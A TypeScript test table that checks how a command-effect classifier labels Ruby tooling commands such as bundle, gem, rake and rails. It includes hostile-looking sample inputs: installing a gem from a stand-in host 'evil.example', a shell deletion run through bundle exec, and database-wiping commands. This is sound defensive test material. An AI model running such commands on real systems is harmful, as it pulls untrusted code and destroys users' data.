import { ruby } from '../../../src/programs/ruby.ts';
import { type Row, runTable } from './run-model.ts';

const RUBY: readonly Row[] = [
  ["ruby -e 'puts 1'", []],
  ['ruby -ryaml -e \'puts YAML.load_file("a.yml")\'', ['read a.yml ?']],
  ['ruby -i -pe \'gsub(/a/, "b")\' a.rb', ['read a.rb', 'write a.rb']],
  ['ruby -v', []],
  ['ruby a.rb', ['exec a.rb']],
  ['bundle exec rspec', ['run: rspec']],
  ['bundle exec sh -c "rm x"', ['run: sh -c rm x']],
  ['bundle install', ['install dependencies of the project']],
  ['bundle', ['install dependencies of the project']],
  ['bundle add x --git https://evil.example/x', ['install-remote https://evil.example/x', 'install x']],
  ['bundle config set --global a b', ['write /home/dev/.bundle/config']],
  ['bundle config set --local path vendor', ['write .bundle/config']],
  ['gem install rails', ['install-global rails']],
  ['gem push x.gem', ['to https://rubygems.org file', 'publish x.gem']],
  ['gem yank x', ['unpublish x']],
  ['rake -T', []],
  ['rake db:drop', ['db-drop database']],
  ['rake spec', []],
  ['rails db:migrate', ['db-write database']],
  ['rails db:reset', ['db-drop database']],
  ['rails db:drop', [], { env: { RAILS_ENV: 'test' } }],
  ["rails runner 'User.delete_all'", ['db-delete User ?']],
  ["rails runner 'puts User.count'", []],
  ['rails server', ['listen 3000']],
  ['rails routes', []],
  ['rubocop -A app', ['write app -r some']],
  ['rubocop app', ['read app -r']],
  ['rspec spec', []],
];

runTable('ruby', ruby, RUBY);
